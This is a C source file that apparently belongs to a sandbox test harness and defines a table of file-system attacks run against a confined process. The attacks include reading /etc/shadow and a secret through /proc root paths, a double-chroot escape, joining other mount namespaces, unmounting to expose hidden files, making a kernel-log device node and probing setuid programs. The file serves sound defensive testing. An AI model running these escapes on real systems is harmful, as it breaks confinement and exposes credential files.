// To read, change and leave files outside.
#include <sys/sysmacros.h>
#include "attack.h"

bool apart(void) {
  if (unshare(CLONE_NEWNS) != 0 && unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return false;
  return mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) == 0;
}

static void home(void) { show(given("secret")); }
static void shadow(void) { show("/etc/shadow"); }
static void public_file(void) { show(given("public")); }

// The secret by other names.
static void around(void) {
  char path[600];
  const char* const roots[] = {"/proc/1/root",
                               "/proc/1/cwd/../../../../..",
                               "/proc/self/root/../..",
                               "/../../../../..",
                               "/proc/self/fd/0/../../../../..",
                               "/dev/fd/1/../../..",
                               NULL};
  for (const char* const* root = roots; *root != NULL; root++) {
    snprintf(path, sizeof path, "%s%s", *root, given("secret"));
    show(path);
  }
  snprintf(path, sizeof path, "/proc/%d/root%s", getppid(), given("secret"));
  show(path);
  if (symlink(given("secret"), "/tmp/attack-link") == 0) {
    show("/tmp/attack-link");
    unlink("/tmp/attack-link");
  }
}

// A second chroot does not close the first one's way out.
static void out_of_root(void) {
  char path[600];
  for (const char* const* place = places; *place != NULL; place++) {
    snprintf(path, sizeof path, "%s/attack-root", *place);
    if (mkdir(path, 0700) != 0) continue;
    bool is_in = chroot(path) == 0 || (unshare(CLONE_NEWUSER) == 0 && chroot(path) == 0);
    rmdir(path);
    if (!is_in) continue;
    for (int level = 0; level < 64; level++)
      if (chdir("..") != 0) break;
    if (chroot(".") != 0) return;
    rmdir(path);
    show(given("secret"));
    return;
  }
}

// Into the mounts of others.
static void other_mounts(void) {
  char path[64];
  const char* const others[] = {"1", given("victim"), NULL};
  for (const char* const* other = others; *other != NULL; other++) {
    snprintf(path, sizeof path, "/proc/%s/ns/mnt", *other);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0 && setns(fd, 0) == 0 && show(given("secret"))) return;
  }
}

// What lies below the mounts that hide it.
static void below_mounts(void) {
  char line[1000], point[500], all[100][200];
  int count = 0;
  if (!apart()) return;
  FILE* lines = fopen("/proc/self/mountinfo", "re");
  if (lines == NULL) return;
  while (count < 100 && fgets(line, sizeof line, lines) != NULL)
    if (sscanf(line, "%*s %*s %*s %*s %499s", point) == 1) snprintf(all[count++], sizeof *all, "%.199s", point);
  fclose(lines);
  while (count-- > 0) {
    umount2(all[count], MNT_DETACH);
    if (show(given("secret"))) return;
  }
}

// The harness looks whether it has another content.
static void change_what_was_given(void) {
  const char* path = given("input");
  if (put(path, "changed") || !apart()) return;
  char directory[400];
  snprintf(directory, sizeof directory, "%.399s", path);
  *strrchr(directory, '/') = '\0';
  const char* const points[] = {path, directory, "/", NULL};
  for (const char* const* point = points; *point != NULL; point++)
    mount(NULL, *point, NULL, MS_REMOUNT | MS_BIND, NULL);
  put(path, "changed");
}

static void write_home(void) {
  int fd = open(given("written"), O_CREAT | O_WRONLY, 0600);
  if (fd >= 0) close(fd);
}

// The kernel's log, by a device of its own making.
static void device(void) {
  char path[100], text[1000];
  for (const char* const* place = places; *place != NULL; place++) {
    snprintf(path, sizeof path, "%s/attack-device", *place);
    if (mknod(path, S_IFCHR | 0600, makedev(1, 11)) != 0) continue;
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    unlink(path);
    if (fd >= 0 && read(fd, text, sizeof text) > 0) return worked();
  }
}

static int effective_uid(pid_t pid) {
  char path[64], line[200];
  int uid = -1;
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  FILE* lines = fopen(path, "re");
  if (lines == NULL) return -1;
  while (fgets(line, sizeof line, lines) != NULL)
    if (sscanf(line, "Uid: %*d %d", &uid) == 1) break;
  fclose(lines);
  return uid;
}

// Root begins as nobody. The programs wait for a password; one is another user while it does.
static void set_user_id(void) {
  const char* const programs[] = {"/usr/bin/su", "/usr/bin/passwd", "/bin/su", "/usr/bin/newgrp", NULL};
  int input[2];
  if (pipe2(input, O_CLOEXEC) != 0) return;
  if (setuid(65534) != 0 && errno == EAGAIN) return;
  int own = geteuid();
  for (const char* const* program = programs; *program != NULL; program++) {
    pid_t pid = fork();
    if (pid == 0) {
      dup2(input[0], 0);
      int nowhere = open("/dev/null", O_WRONLY);
      dup2(nowhere, 1);
      dup2(nowhere, 2);
      execl(*program, *program, NULL);
      _exit(1);
    }
    bool is_other = false;
    for (int look = 0; look < 200 && !is_other && waitpid(pid, NULL, WNOHANG) == 0; look++) {
      int uid = effective_uid(pid);
      is_other = uid >= 0 && uid != own;
      usleep(5000);
    }
    kill(pid, SIGKILL);
    if (is_other) return worked();
  }
}

static void core_dump(void) {
  int status = 0;
  struct rlimit limit;
  getrlimit(RLIMIT_CORE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_CORE, &limit);
  pid_t pid = fork();
  if (pid == 0) abort();
  waitpid(pid, &status, 0);
  if (WCOREDUMP(status)) worked();
}

static void full_disk(void) {
  if (fills(96 * MIB, false, false)) worked();
}

static void leave_files(void) {
  char path[300];
  for (const char* const* place = places; *place != NULL; place++) {
    snprintf(path, sizeof path, "%s/%s", *place, given("mark"));
    int fd = open(path, O_CREAT | O_WRONLY, 0600);
    if (fd >= 0) close(fd);
  }
}

const struct attack file_attacks[] = {{"home", home},
                                      {"shadow", shadow},
                                      {"public-file", public_file},
                                      {"around", around},
                                      {"out-of-root", out_of_root},
                                      {"below-mounts", below_mounts},
                                      {"other-mounts", other_mounts},
                                      {"change-input", change_what_was_given},
                                      {"write-home", write_home},
                                      {"device", device},
                                      {"set-user-id", set_user_id},
                                      {"core-dump", core_dump},
                                      {"full-disk", full_disk},
                                      {"leave-files", leave_files},
                                      {NULL, NULL}};
